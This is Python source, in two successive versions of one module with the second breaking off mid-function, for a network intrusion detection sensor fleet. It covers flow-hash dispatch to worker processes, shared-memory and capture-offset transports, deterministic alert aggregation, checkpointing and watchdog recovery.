  aggregator folds them with
  :meth:`~repro.obs.MetricsRegistry.merge_delta` into the central
  registry.  Worker metric keys the aggregator never registered are
  auto-registered *and counted* (``repro_obs_merge_unknown_total``), so
  fleet-wide stage timings and shed/fault counters read like one
  sensor's.
"""

from __future__ import annotations

import hashlib
from collections import deque
from concurrent.futures import ProcessPoolExecutor
from dataclasses import dataclass, replace

from ..errors import FlowKeyError
from ..net.flow import FlowKey
from ..net.packet import Packet
from ..obs import MetricsRegistry
from .alerts import Alert
from .parallel import resolve_template_set
from .pipeline import SemanticNids

__all__ = ["SensorFleet", "FleetStats"]


# ---------------------------------------------------------------------------
# Worker side
# ---------------------------------------------------------------------------

_FLEET_STATE: dict = {}


def _init_fleet_worker(template_set: str, options: dict) -> None:
    """Per-process initializer: one complete sensor pipeline."""
    registry = MetricsRegistry()
    _FLEET_STATE["registry"] = registry
    _FLEET_STATE["nids"] = SemanticNids(
        templates=resolve_template_set(template_set),
        registry=registry, **options)


def _portable(alert: Alert) -> Alert:
    """Alerts cross the process boundary without their live match
    objects (template predicates are lambdas and do not pickle)."""
    return replace(alert, match=None) if alert.match is not None else alert


def _fleet_process_batch(batch: list) -> tuple[list, dict]:
    """Run one dispatch batch of ``(seq, wire_bytes, timestamp)`` through
    the worker's pipeline; returns seq-tagged alerts + a metrics delta."""
    nids: SemanticNids = _FLEET_STATE["nids"]
    out = []
    for seq, raw, timestamp in batch:
        pkt = Packet.decode(raw, timestamp)
        for alert in nids.process_packet(pkt):
            out.append((seq, _portable(alert)))
    return out, _FLEET_STATE["registry"].collect_delta()


def _fleet_flush_worker() -> tuple[list, dict]:
    """Finalize unexamined stream tails; ships the remaining alerts and
    the final metrics delta."""
    nids: SemanticNids = _FLEET_STATE["nids"]
    alerts = [_portable(a) for a in nids.flush()]
    return alerts, _FLEET_STATE["registry"].collect_delta()


# ---------------------------------------------------------------------------
# Aggregator side
# ---------------------------------------------------------------------------


@dataclass
class FleetStats:
    """Aggregator-side accounting for one fleet run."""

    workers: int
    dispatched: int
    batches: int
    alerts: int
    deltas_merged: int


class SensorFleet:
    """N whole-pipeline sensor processes behind a flow-hash dispatcher.

    Parameters
    ----------
    workers:
        Sensor processes.  ``1`` still spawns a process — the fleet's
        value is the dispatch/aggregation contract, not a serial
        fallback (use :class:`SemanticNids` directly for that).
    template_set:
        Named template set, rebuilt inside each worker (template objects
        do not pickle).
    batch_size:
        Packets buffered per worker before a batch is shipped; amortizes
        pickling without reordering anything (per-worker batches stay
        FIFO, and the aggregator orders by global seq anyway).
    nids_options:
        Extra picklable keyword arguments for each worker's
        :class:`SemanticNids` (e.g. ``classification_enabled``,
        ``frame_cache_size``, ``analysis_deadline_ms``).
    shard_by:
        ``"source"`` (default) routes by sender address — exact alert
        parity with a batch sensor, because per-source classifier state
        never splits; ``"flow"`` routes by unordered endpoint pair —
        better balance under one heavy talker, parity only without
        cross-flow classifier state.
    registry:
        The central registry worker deltas fold into.
    """

    def __init__(
        self,
        workers: int = 2,
        template_set: str = "paper",
        batch_size: int = 64,
        nids_options: dict | None = None,
        shard_by: str = "source",
        registry: MetricsRegistry | None = None,
    ) -> None:
        if workers < 1:
            raise ValueError("a fleet needs at least one worker")
        if shard_by not in ("source", "flow"):
            raise ValueError(f"unknown shard_by {shard_by!r}; "
                             "expected 'source' or 'flow'")
        self.workers = workers
        self.shard_by = shard_by
        self.template_set = template_set
        self.batch_size = batch_size
        self.nids_options = dict(nids_options or {})
        self.registry = registry if registry is not None else MetricsRegistry()
        self.alerts: list[Alert] = []
        self._seq = 0
        self._batches_sent = 0
        self._deltas_merged = 0
        self._batches: list[list] = [[] for _ in range(workers)]
        self._futures: list[deque] = [deque() for _ in range(workers)]
        #: (seq, alert) pairs already collected, sorted at merge time
        self._collected: list = []
        self._dispatched = self.registry.counter(
            "repro_fleet_dispatched_total",
            help="Packets dispatched to fleet workers.", unit="packets")
        self._batch_counter = self.registry.counter(
            "repro_fleet_batches_total",
            help="Dispatch batches shipped to fleet workers.",
            unit="batches")
        self._pools = [
            ProcessPoolExecutor(
                max_workers=1,
                initializer=_init_fleet_worker,
                initargs=(template_set, self.nids_options),
            )
            for _ in range(workers)
        ]

    # -- lifecycle -----------------------------------------------------------

    def __enter__(self) -> "SensorFleet":
        return self

    def __exit__(self, *exc) -> None:
        self.close()

    def close(self) -> None:
        self.flush()
        pools, self._pools = self._pools, []
        for pool in pools:
            pool.shutdown(wait=True, cancel_futures=True)

    # -- dispatch ------------------------------------------------------------

    def _shard_of(self, pkt: Packet) -> int:
        """Stable worker index for a packet.

        Hashed through :mod:`hashlib` rather than :func:`hash` so the
        assignment is identical across runs and interpreter salts.
        ``"source"`` mode keys on the sender (all of one host's flows —
        and its scan-count state — stay together); ``"flow"`` mode keys
        on the unordered endpoint pair so both directions of one
        conversation reach the same worker's reassembler.
        """
        if self.shard_by == "source":
            token = pkt.src or "?"
        else:
            try:
                key = FlowKey.of(pkt)
                a, b = f"{key.src}:{key.sport}", f"{key.dst}:{key.dport}"
                token = "|".join(sorted((a, b))) + f"/{key.proto}"
            except FlowKeyError:  # no transport flow (e.g. ICMP, raw eth)
                token = "|".join(sorted((pkt.src or "?", pkt.dst or "?")))
        digest = hashlib.sha1(token.encode()).digest()
        return int.from_bytes(digest[:4], "big") % self.workers

    def process_packet(self, pkt: Packet) -> None:
        """Dispatch one packet to its flow's worker.

        Alerts are not returned here — they surface, in deterministic
        order, from :meth:`flush` / :meth:`process_trace`; the fleet
        trades per-packet synchrony for throughput.
        """
        shard = self._shard_of(pkt)
        self._batches[shard].append((self._seq, pkt.encode(), pkt.timestamp))
        self._seq += 1
        self._dispatched.inc()
        if len(self._batches[shard]) >= self.batch_size:
            self._ship(shard)
        self._collect(blocking=False)

    def process_trace(self, packets) -> list[Alert]:
        """Feed a whole capture; returns all alerts, aggregated."""
        before = len(self.alerts)
        for pkt in packets:
            self.process_packet(pkt)
        self.flush()
        return self.alerts[before:]

    def _ship(self, shard: int) -> None:
        batch, self._batches[shard] = self._batches[shard], []
        if not batch:
            return
        self._futures[shard].append(
            self._pools[shard].submit(_fleet_process_batch, batch))
        self._batches_sent += 1
        self._batch_counter.inc()

    # -- aggregation ---------------------------------------------------------

    def _collect(self, blocking: bool) -> None:
        """Fold completed batch results (per-shard FIFO) into the
        aggregation buffer and the central registry."""
        for futures in self._futures:
            while futures and (blocking or futures[0].done()):
                alerts, delta = futures.popleft().result()
                self._collected.extend(alerts)
                self.registry.merge_delta(delta)
                self._deltas_merged += 1

    def flush(self) -> list[Alert]:
        """Ship partial batches, drain every worker, finalize stream
        tails, and merge: packet alerts sorted by dispatch seq (stable —
        one packet's alerts keep pipeline order), then each worker's
        flush-time alerts in worker order."""
        if not self._pools:
            return []
        for shard in range(self.workers):
            self._ship(shard)
        self._collect(blocking=True)
        tails: list[list[Alert]] = []
        for shard in range(self.workers):
            alerts, delta = self._pools[shard].submit(
                _fleet_flush_worker).result()
            tails.append(alerts)
            self.registry.merge_delta(delta)
            self._deltas_merged += 1
        merged = [alert for _, alert in
                  sorted(self._collected, key=lambda pair: pair[0])]
        self._collected = []
        for tail in tails:
            merged.extend(tail)
        self.alerts.extend(merged)
        return merged

    # -- hot template reload -------------------------------------------------

    def reload_template_set(self, template_set: str) -> bool:
        """Hot-swap the fleet's template library, same digest-keyed
        semantics as the single-sensor engines: in-flight batches drain
        under the old library, then every worker is respawned with the
        new set in its initargs."""
        from ..core.library import library_digest

        new = library_digest(resolve_template_set(template_set))
        old = library_digest(resolve_template_set(self.template_set))
        if new == old:
            return False
        self.flush()
        self.template_set = template_set
        for shard, pool in enumerate(self._pools):
            pool.shutdown(wait=False, cancel_futures=True)
            self._pools[shard] = ProcessPoolExecutor(
                max_workers=1,
                initializer=_init_fleet_worker,
                initargs=(template_set, self.nids_options),
            )
        return True

    # -- reporting -----------------------------------------------------------

    @property
    def stats(self) -> FleetStats:
        return FleetStats(
            workers=self.workers,
            dispatched=self._seq,
            batches=self._batches_sent,
            alerts=len(self.alerts),
            deltas_merged=self._deltas_merged,
        )

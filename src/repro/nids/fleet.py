"""Scale-out sensor fleet: flow-hash dispatcher, whole-pipeline workers,
central aggregator.

The parallel engine (:mod:`repro.nids.parallel`) parallelizes stages
(b)-(e) *within* one sensor; the fleet scales the **whole pipeline** out
across N sensor processes, the way a capture point outgrows one box:

- **flow-hash dispatch** — every packet is assigned to a worker by a
  *stable* digest of its flow (``shard_by="source"``, the default,
  hashes the sender address; ``"flow"`` hashes the unordered endpoint
  pair), so each worker's defragmenter, stream reassembler, and
  per-stream dedup see complete (directional) flows.  Source sharding
  additionally keeps every *per-source* classifier state — dark-space
  scan counts, SMTP fan-out — on one worker, which is what makes fleet
  alerts exactly equal to a single batch
  :class:`~repro.nids.SemanticNids` over the same capture; endpoint
  sharding balances heavy talkers better but only preserves parity when
  classification is per-packet (honeypots) or disabled.
- **pluggable transport** (``transport=``) — how work units reach the
  workers.  ``"pickle"`` ships ``(seq, wire_bytes, timestamp)`` triples
  through the pool (every payload byte is pickled and unpickled);
  ``"shm"`` writes the same batches once into a per-shard shared-memory
  :class:`~repro.nids.shm.PacketRing` and ships only a tiny
  :class:`~repro.nids.shm.RingSlot` descriptor, with a counted
  fallback ladder (blocking drain, then the pickle path) when a ring is
  full; ``"offset"`` never moves payload bytes at all — the dispatcher
  scans record *boundaries* of a capture file
  (:meth:`~repro.net.pcap.PcapReader.poll_meta`), shards each record by
  a bounded header peek (:meth:`~repro.net.packet.Packet.peek_flow`),
  and ships ``(seq0, offset, count)`` extents; each worker re-reads its
  own slice of the capture.  All three produce byte-identical merged
  alert streams (the transport parity suite proves it).
- **deterministic aggregation** — the aggregator orders packet alerts by
  global dispatch sequence (a stable sort, so one packet's alerts keep
  their pipeline order) and appends each worker's flush-time alerts in
  worker order.  The merged stream does not depend on process
  scheduling.
- **cross-process metrics** — each batch result carries the worker
  registry's :meth:`~repro.obs.MetricsRegistry.collect_delta`; the
  aggregator folds them with
  :meth:`~repro.obs.MetricsRegistry.merge_delta` into the central
  registry.  Worker metric keys the aggregator never registered are
  auto-registered *and counted* (``repro_obs_merge_unknown_total``), so
  fleet-wide stage timings and shed/fault counters read like one
  sensor's.

Crash safety composes with every transport: barrier checkpoints drain
all in-flight work first (ring spans retire as their batches fold), the
replay log keeps the *raw* work units — not ring descriptors — so a
watchdog-respawned shard is re-fed through the pickle path, and a shard
restart resets its ring (generation bump + frame poisoning) so any
descriptor that survived the restart fails loud
(:class:`~repro.nids.shm.RingIntegrityError`) instead of reading
recycled bytes.
"""

from __future__ import annotations

import hashlib
import os
import time
from collections import deque
from concurrent.futures import ProcessPoolExecutor
from concurrent.futures import TimeoutError as FutureTimeoutError
from concurrent.futures.process import BrokenProcessPool

from dataclasses import dataclass, replace

from ..net.packet import Packet
from ..net.pcap import PcapReader
from ..obs import MetricsRegistry
from ..resilience.checkpoint import CheckpointStore
from ..resilience.journal import AlertJournal, alert_to_record, record_to_alert
from .alerts import Alert
from .parallel import resolve_template_set
from .pipeline import SemanticNids
from .shm import DEFAULT_RING_BYTES, PacketRing, RingReader, RingSlot

__all__ = ["SensorFleet", "FleetStats", "FLEET_TRANSPORTS"]

FLEET_TRANSPORTS = ("pickle", "shm", "offset")

#: Serialized size of one ``(seq0, offset, count)`` extent descriptor —
#: what the offset transport ships instead of payload bytes.
_EXTENT_DESCRIPTOR_BYTES = 24


# ---------------------------------------------------------------------------
# Worker side
# ---------------------------------------------------------------------------

_FLEET_STATE: dict = {}


def _init_fleet_worker(template_set: str, options: dict,
                       state: dict | None = None,
                       ring_name: str | None = None) -> None:
    """Per-process initializer: one complete sensor pipeline.

    ``state`` — a :meth:`SemanticNids.snapshot_state` payload from a
    checkpoint barrier — rehydrates a respawned or resumed worker so
    its per-source classifier memory and half-open streams continue
    where the dead worker stopped.  ``ring_name`` attaches the worker
    to its shard's shared-memory packet ring (``transport="shm"``).
    """
    registry = MetricsRegistry()
    _FLEET_STATE["registry"] = registry
    nids = SemanticNids(
        templates=resolve_template_set(template_set),
        registry=registry, **options)
    if state is not None:
        nids.restore_state(state)
        # Rehydration counters are not part of the detection state; the
        # delta collected after restore must not re-report them.
        registry.collect_delta()
    _FLEET_STATE["nids"] = nids
    _FLEET_STATE["ring"] = (RingReader(ring_name)
                            if ring_name is not None else None)
    _FLEET_STATE["captures"] = {}


def _fleet_snapshot_worker() -> dict:
    """Checkpoint barrier: ship this worker's full engine state."""
    nids: SemanticNids = _FLEET_STATE["nids"]
    return nids.snapshot_state()


def _portable(alert: Alert) -> Alert:
    """Alerts cross the process boundary without their live match
    objects (template predicates are lambdas and do not pickle)."""
    return replace(alert, match=None) if alert.match is not None else alert


def _run_records(records) -> tuple[list, dict]:
    """Run ``(seq, wire_bytes, timestamp)`` records through the worker's
    pipeline; returns seq-tagged alerts + a metrics delta.  The shared
    tail of every transport's worker entry point."""
    nids: SemanticNids = _FLEET_STATE["nids"]
    out = []
    for seq, raw, timestamp in records:
        pkt = Packet.decode(raw, timestamp)
        for alert in nids.process_packet(pkt):
            out.append((seq, _portable(alert)))
    return out, _FLEET_STATE["registry"].collect_delta()


def _fleet_process_batch(batch: list) -> tuple[list, dict]:
    """Pickle transport (and every replay path): the records travelled
    inside the submit call itself."""
    return _run_records(batch)


def _fleet_process_shm(slot: RingSlot) -> tuple[list, dict]:
    """Shm transport: the submit call carried only a descriptor; the
    records are validated and decoded out of the shared ring."""
    reader: RingReader | None = _FLEET_STATE.get("ring")
    if reader is None:
        raise RuntimeError(
            "worker received a ring descriptor but was initialized "
            "without a ring (transport mismatch)")
    return _run_records(reader.read_batch(slot))


def _fleet_process_extents(job: tuple) -> tuple[list, dict]:
    """Offset transport: the submit call carried ``(path, [(seq0,
    offset, count), ...])``; the worker re-reads its own slice of the
    capture — the dispatcher never touched the payload bytes."""
    path, extents = job
    captures: dict = _FLEET_STATE.setdefault("captures", {})
    reader = captures.get(path)
    if reader is None:
        # streaming: the capture may still be growing under --follow;
        # every extent the dispatcher shipped is fully on disk.
        reader = captures[path] = PcapReader(path, streaming=True)
    records = []
    for seq0, offset, count in extents:
        reader.seek_to(offset)
        for i in range(count):
            rec = reader.poll()
            if rec is None:
                raise RuntimeError(
                    f"extent ({seq0}, {offset}, {count}) ran past the "
                    f"capture at record {i}: dispatcher and worker see "
                    "different files")
            records.append((seq0 + i, rec.data, rec.timestamp))
    return _run_records(records)


def _fleet_flush_worker() -> tuple[list, dict]:
    """Finalize unexamined stream tails; ships the remaining alerts and
    the final metrics delta."""
    nids: SemanticNids = _FLEET_STATE["nids"]
    alerts = [_portable(a) for a in nids.flush()]
    return alerts, _FLEET_STATE["registry"].collect_delta()


# ---------------------------------------------------------------------------
# Aggregator side
# ---------------------------------------------------------------------------


@dataclass
class FleetStats:
    """Aggregator-side accounting for one fleet run."""

    workers: int
    dispatched: int
    batches: int
    alerts: int
    deltas_merged: int
    #: crash-safety accounting; all zero without ``checkpoint_dir``.
    checkpoints: int = 0
    replayed: int = 0
    deduped: int = 0
    watchdog_restarts: int = 0
    #: transport accounting (docs/architecture.md "Fleet transport").
    transport: str = "pickle"
    ship_bytes: int = 0
    ring_full: int = 0
    ring_fallback: int = 0


class SensorFleet:
    """N whole-pipeline sensor processes behind a flow-hash dispatcher.

    Parameters
    ----------
    workers:
        Sensor processes.  ``1`` still spawns a process — the fleet's
        value is the dispatch/aggregation contract, not a serial
        fallback (use :class:`SemanticNids` directly for that).
    template_set:
        Named template set, rebuilt inside each worker (template objects
        do not pickle).
    batch_size:
        Packets buffered per worker before a batch is shipped; amortizes
        per-submit overhead without reordering anything (per-worker
        batches stay FIFO, and the aggregator orders by global seq
        anyway).
    nids_options:
        Extra picklable keyword arguments for each worker's
        :class:`SemanticNids` (e.g. ``classification_enabled``,
        ``frame_cache_size``, ``analysis_deadline_ms``).
    shard_by:
        ``"source"`` (default) routes by sender address — exact alert
        parity with a batch sensor, because per-source classifier state
        never splits; ``"flow"`` routes by unordered endpoint pair —
        better balance under one heavy talker, parity only without
        cross-flow classifier state.
    registry:
        The central registry worker deltas fold into.
    transport:
        Dispatcher→worker comms layer: ``"pickle"`` (in-band triples),
        ``"shm"`` (shared-memory ring + descriptors), or ``"offset"``
        (capture-extent partitioning; feed via :meth:`process_capture`
        only).  See the module docstring.
    ring_bytes:
        Per-shard shared-memory ring capacity (``transport="shm"``).
        Sizing guidance in docs/operations.md.
    """

    def __init__(
        self,
        workers: int = 2,
        template_set: str = "paper",
        batch_size: int = 64,
        nids_options: dict | None = None,
        shard_by: str = "source",
        registry: MetricsRegistry | None = None,
        checkpoint_dir: str | os.PathLike[str] | None = None,
        checkpoint_interval: int = 1000,
        journal_fsync_batch: int = 8,
        resume: bool = False,
        watchdog_timeout: float | None = None,
        transport: str = "pickle",
        ring_bytes: int = DEFAULT_RING_BYTES,
    ) -> None:
        if workers < 1:
            raise ValueError("a fleet needs at least one worker")
        if shard_by not in ("source", "flow"):
            raise ValueError(f"unknown shard_by {shard_by!r}; "
                             "expected 'source' or 'flow'")
        if transport not in FLEET_TRANSPORTS:
            raise ValueError(f"unknown transport {transport!r}; "
                             f"expected one of {FLEET_TRANSPORTS}")
        self.workers = workers
        self.shard_by = shard_by
        self.template_set = template_set
        self.batch_size = batch_size
        self.transport = transport
        self.nids_options = dict(nids_options or {})
        self.registry = registry if registry is not None else MetricsRegistry()
        self.alerts: list[Alert] = []
        self._seq = 0
        self._batches_sent = 0
        self._deltas_merged = 0
        #: pickle/shm: lists of (seq, wire, ts) triples.  offset: lists
        #: of mutable [seq0, file_offset, count] extent runs.
        self._batches: list[list] = [[] for _ in range(workers)]
        #: offset transport: records (not runs) buffered per shard.
        self._batch_counts: list[int] = [0] * workers
        #: the capture the current extent runs point into.
        self._capture_path: str | None = None
        #: per-shard FIFO of (batch_key, future); batch_key = first seq
        self._futures: list[deque] = [deque() for _ in range(workers)]
        #: (seq, alert) pairs already collected, sorted at merge time
        self._collected: list = []
        self._dispatched = self.registry.counter(
            "repro_fleet_dispatched_total",
            help="Packets dispatched to fleet workers.", unit="packets")
        self._batch_counter = self.registry.counter(
            "repro_fleet_batches_total",
            help="Dispatch batches shipped to fleet workers.",
            unit="batches")
        # -- dispatch-cost observability --
        self._ship_bytes = self.registry.counter(
            "repro_fleet_ship_bytes_total",
            help="Payload bytes serialized into the dispatcher→worker "
                 "transport (pickle triples or ring frames; offset "
                 "extents count only their 24-byte descriptors).",
            unit="bytes")
        self._ship_seconds = self.registry.histogram(
            "repro_fleet_ship_seconds",
            help="Dispatcher wall seconds per batch shipped "
                 "(serialize/frame + submit).", unit="seconds")
        self._ring_full = self.registry.counter(
            "repro_fleet_ring_full_total",
            help="Dispatch batches that found their shard's shared-"
                 "memory ring full (counted blocking drain engaged).",
            unit="batches")
        self._ring_fallback = self.registry.counter(
            "repro_fleet_ring_fallback_total",
            help="Dispatch batches that rode the pickle path because "
                 "their ring stayed full after the drain.",
            unit="batches")
        #: per-shard shared-memory rings (shm transport only).
        self._rings: list[PacketRing | None] = [
            PacketRing(ring_bytes) if transport == "shm" else None
            for _ in range(workers)]
        # -- durability / supervision (optional) --
        self.checkpoint_interval = max(1, checkpoint_interval)
        self.watchdog_timeout = watchdog_timeout
        self.checkpoints: CheckpointStore | None = None
        self.journal: AlertJournal | None = None
        #: dispatch seq the caller should re-feed from after a resume
        self.resume_seq = 0
        self._last_checkpoint_seq = 0
        #: last barrier snapshot per shard (respawn/resume rehydration)
        self._shard_states: list[dict | None] = [None] * workers
        #: work units shipped since the last barrier, per shard, for
        #: replay after a watchdog kill (keyed like the futures).  Raw
        #: batches / extent jobs — never ring descriptors, so replay
        #: cannot read a recycled ring.
        self._replay: list[list] = [[] for _ in range(workers)]
        #: batch keys already folded (a replayed batch must not re-emit)
        self._folded: set[int] = set()
        #: journal keys already emitted into ``alerts`` (replay dedupe)
        self._emitted_keys: set = set()
        self._watchdog_restarts = self.registry.counter(
            "repro_watchdog_restarts_total",
            help="Fleet shards killed and respawned by the dispatcher "
                 "watchdog after a missed heartbeat.", unit="restarts")
        self._replayed_counter = self.registry.counter(
            "repro_alerts_replayed_total",
            help="Journaled alerts re-offered to the sink after a restart.",
            unit="alerts")
        self._deduped_counter = self.registry.counter(
            "repro_alerts_deduped_total",
            help="Duplicate alerts suppressed by delivery-side replay "
                 "dedupe.", unit="alerts")
        if checkpoint_dir is not None:
            self.checkpoints = CheckpointStore(
                checkpoint_dir, registry=self.registry)
            self.journal = AlertJournal(
                os.path.join(checkpoint_dir, "journal"),
                fsync_batch=journal_fsync_batch, registry=self.registry)
            if resume:
                self._resume()
            else:
                self.checkpoints.clear()
                self.journal.prune(keep_segments=0)
        elif resume:
            raise ValueError("resume=True requires checkpoint_dir")
        self._pools = [
            ProcessPoolExecutor(
                max_workers=1,
                initializer=_init_fleet_worker,
                initargs=(self.template_set, self.nids_options,
                          self._shard_states[shard], self._ring_name(shard)),
            )
            for shard in range(workers)
        ]

    def _ring_name(self, shard: int) -> str | None:
        ring = self._rings[shard]
        return ring.name if ring is not None else None

    # -- crash recovery ------------------------------------------------------

    def _resume(self) -> None:
        """Rehydrate the aggregator from the checkpoint directory.

        The journal holds every barrier-emitted packet alert in global
        seq order; they are restored into :attr:`alerts` (counted as
        replayed) and their keys armed for dedupe, so the re-fed window
        past the checkpoint watermark cannot emit twice.  Entries past
        the watermark (an aborted barrier whose journal sync completed
        but whose checkpoint rename did not) restore the same way.
        """
        recovery = self.journal.recover()
        ckpt = self.checkpoints.load()
        if ckpt is not None:
            from ..core.library import library_digest
            current = library_digest(resolve_template_set(self.template_set))
            if ckpt["library_digest"] != current:
                raise ValueError(
                    "fleet checkpoint was taken under a different template "
                    "library; refusing to resume")
            if ckpt["workers"] != self.workers:
                raise ValueError(
                    f"fleet checkpoint has {ckpt['workers']} shard "
                    f"snapshots; cannot resume with {self.workers} workers "
                    "(flow→shard routing would change)")
            self._seq = ckpt["watermark"]
            self.resume_seq = ckpt["watermark"]
            self._last_checkpoint_seq = ckpt["watermark"]
            self._shard_states = list(ckpt["shard_states"])
            self._dispatched.inc(ckpt["watermark"])
        for key, record in recovery.entries:
            self._emitted_keys.add(key)
            self.alerts.append(record_to_alert(record))
            self._replayed_counter.inc()

    def checkpoint(self) -> None:
        """Barrier checkpoint: drain every shard, snapshot worker state,
        journal and emit the collected window, then atomically persist
        the dispatch watermark + shard snapshots.  The journal is synced
        before the checkpoint rename, so a checkpointed watermark never
        points past un-durable alerts.  Draining also retires every
        live ring span, so a barrier never pins ring capacity."""
        if self.checkpoints is None:
            return
        for shard in range(self.workers):
            self._ship(shard)
        self._collect(blocking=True)
        states = []
        for shard in range(self.workers):
            states.append(self._submit_supervised(
                shard, _fleet_snapshot_worker))
        window = sorted(self._collected, key=lambda pair: pair[0])
        self._collected = []
        self._journal_and_emit(window)
        self.journal.sync()
        from ..core.library import library_digest
        self.checkpoints.save({
            "watermark": self._seq,
            "workers": self.workers,
            "shard_states": states,
            "library_digest": library_digest(
                resolve_template_set(self.template_set)),
        })
        self._shard_states = states
        self._replay = [[] for _ in range(self.workers)]
        self._folded.clear()
        self._last_checkpoint_seq = self._seq

    def _maybe_checkpoint(self) -> None:
        if (self.checkpoints is not None
                and self._seq - self._last_checkpoint_seq
                >= self.checkpoint_interval):
            self.checkpoint()

    def _journal_and_emit(self, window: list) -> None:
        """Append a seq-sorted (seq, alert) window to the journal and to
        :attr:`alerts`, keyed ``(seq, k)`` (k = index among one packet's
        alerts) and deduped against anything already emitted."""
        k, last_seq = 0, None
        for seq, alert in window:
            k = k + 1 if seq == last_seq else 0
            last_seq = seq
            key = (seq, k)
            if key in self._emitted_keys:
                self._deduped_counter.inc()
                continue
            self._emitted_keys.add(key)
            if self.journal is not None:
                self.journal.append(list(key), alert_to_record(alert))
            self.alerts.append(alert)

    def _submit_supervised(self, shard: int, fn, *args):
        """Submit a call to one shard under the watchdog: a missed
        deadline or broken pool kills, respawns, rehydrates, and replays
        the shard, then retries once on the fresh pool — still under
        the watchdog deadline, so a shard whose respawn also hangs
        raises instead of stalling the dispatcher forever."""
        try:
            future = self._pools[shard].submit(fn, *args)
            if self.watchdog_timeout is not None:
                return future.result(timeout=self.watchdog_timeout)
            return future.result()
        except (FutureTimeoutError, BrokenProcessPool):
            self._restart_shard(shard)
            future = self._pools[shard].submit(fn, *args)
            if self.watchdog_timeout is not None:
                return future.result(timeout=self.watchdog_timeout)
            return future.result()

    # -- lifecycle -----------------------------------------------------------

    def __enter__(self) -> "SensorFleet":
        return self

    def __exit__(self, *exc) -> None:
        self.close()

    def close(self) -> None:
        self.flush()
        pools, self._pools = self._pools, []
        for pool in pools:
            pool.shutdown(wait=True, cancel_futures=True)
        rings, self._rings = self._rings, [None] * self.workers
        for ring in rings:
            if ring is not None:
                ring.close()
        if self.journal is not None:
            self.journal.close()

    # -- dispatch ------------------------------------------------------------

    def _shard_of_fields(self, src, dst, proto, sport, dport) -> int:
        """Stable worker index from flow fields.

        Hashed through :mod:`hashlib` rather than :func:`hash` so the
        assignment is identical across runs and interpreter salts.
        ``"source"`` mode keys on the sender (all of one host's flows —
        and its scan-count state — stay together); ``"flow"`` mode keys
        on the unordered endpoint pair so both directions of one
        conversation reach the same worker's reassembler.  The fields
        come either from a decoded :class:`Packet`'s accessors or from
        :meth:`Packet.peek_flow` over a header prefix — both yield the
        same values by construction, so every transport shards every
        packet identically.
        """
        if self.shard_by == "source":
            token = src or "?"
        elif src is not None and sport is not None:
            a, b = f"{src}:{sport}", f"{dst}:{dport}"
            token = "|".join(sorted((a, b))) + f"/{proto}"
        else:  # no transport flow (e.g. ICMP, fragments, raw eth)
            token = "|".join(sorted((src or "?", dst or "?")))
        digest = hashlib.sha1(token.encode()).digest()
        return int.from_bytes(digest[:4], "big") % self.workers

    def _shard_of(self, pkt: Packet) -> int:
        return self._shard_of_fields(
            pkt.src, pkt.dst,
            pkt.ip.proto if pkt.ip is not None else None,
            pkt.sport, pkt.dport)

    def process_packet(self, pkt: Packet) -> None:
        """Dispatch one decoded packet to its flow's worker.

        Alerts are not returned here — they surface, in deterministic
        order, from :meth:`flush` / :meth:`process_trace`; the fleet
        trades per-packet synchrony for throughput.
        """
        if self.transport == "offset":
            raise ValueError(
                "the offset transport dispatches capture extents, not "
                "packets; feed it via process_capture()")
        shard = self._shard_of(pkt)
        self._enqueue(shard, (self._seq, pkt.encode(), pkt.timestamp))

    def process_raw(self, raw: bytes, timestamp: float = 0.0) -> None:
        """Dispatch one undecoded capture record.

        The record is sharded by a bounded header peek
        (:meth:`Packet.peek_flow`) — the dispatcher never decodes or
        re-encodes the payload, which is the point: with ``pickle`` or
        ``shm`` transports this is the cheap way to feed a capture
        (:meth:`process_capture` uses it).
        """
        if self.transport == "offset":
            raise ValueError(
                "the offset transport dispatches capture extents, not "
                "records; feed it via process_capture()")
        if not isinstance(raw, (bytes, bytearray)):
            raw = bytes(raw)  # replay/fallback logs need stable bytes
        shard = self._shard_of_fields(*Packet.peek_flow(raw))
        self._enqueue(shard, (self._seq, raw, timestamp))

    def _enqueue(self, shard: int, item: tuple) -> None:
        self._batches[shard].append(item)
        self._seq += 1
        self._dispatched.inc()
        if len(self._batches[shard]) >= self.batch_size:
            self._ship(shard)
        self._collect(blocking=False)
        self._maybe_checkpoint()

    def process_trace(self, packets) -> list[Alert]:
        """Feed a whole capture of decoded packets; returns all alerts,
        aggregated."""
        before = len(self.alerts)
        for pkt in packets:
            self.process_packet(pkt)
        self.flush()
        return self.alerts[before:]

    def process_capture(self, path, *, follow: bool = False,
                        idle_timeout: float | None = None,
                        poll_interval: float = 0.02,
                        max_packets: int | None = None,
                        stop=None, progress=None) -> list[Alert]:
        """Feed a capture file through the configured transport.

        - ``offset``: the dispatcher scans record boundaries and ships
          ``(seq0, offset, count)`` extents — payload bytes are read
          only by the workers;
        - ``pickle``/``shm``: records are read once and dispatched via
          :meth:`process_raw` (header-peek sharding, no dispatcher
          decode).

        ``follow`` tails a growing capture (same semantics as the
        daemon's ``--follow``): exit on ``idle_timeout`` seconds without
        a new record, ``stop()`` truth, or ``max_packets``.  On a
        resumed fleet the checkpointed prefix of the capture is skipped
        and dispatch continues from :attr:`resume_seq`.  ``progress``
        (if given) is called with the next dispatch seq before each
        record — the crash-injection hook the resilience harness uses.
        Returns the alerts emitted by this call's final flush.
        """
        before = len(self.alerts)
        self._capture_path = os.fspath(path)
        reader = PcapReader(self._capture_path, streaming=follow)
        offset_mode = self.transport == "offset"
        #: a freshly resumed fleet re-reads the capture from the start
        #: and must skip the records the checkpoint already accounted.
        skip = self.resume_seq if self._seq == self.resume_seq else 0
        cursor = 0
        dispatched = 0
        idle_since = None
        try:
            while True:
                if stop is not None and stop():
                    break
                if max_packets is not None and dispatched >= max_packets:
                    break
                item = reader.poll_meta() if offset_mode else reader.poll()
                if item is None:
                    if not follow:
                        reader.finalize()  # truncation verdict (raises)
                        break
                    now = time.monotonic()
                    if idle_since is None:
                        idle_since = now
                    elif (idle_timeout is not None
                          and now - idle_since >= idle_timeout):
                        break
                    time.sleep(poll_interval)
                    continue
                idle_since = None
                if cursor < skip:
                    cursor += 1
                    continue
                if progress is not None:
                    progress(self._seq)
                if offset_mode:
                    self._dispatch_meta(item)
                else:
                    self.process_raw(item.data, item.timestamp)
                cursor += 1
                dispatched += 1
        finally:
            reader.close()
        self.flush()
        return self.alerts[before:]

    def _dispatch_meta(self, meta) -> None:
        """Offset transport: fold one scanned record boundary into its
        shard's extent runs.  Consecutive records that hash to the same
        shard have consecutive seqs *and* are contiguous in the file, so
        they extend the current ``[seq0, offset, count]`` run instead of
        adding a descriptor."""
        fields = Packet.peek_flow(meta.prefix, caplen=meta.caplen)
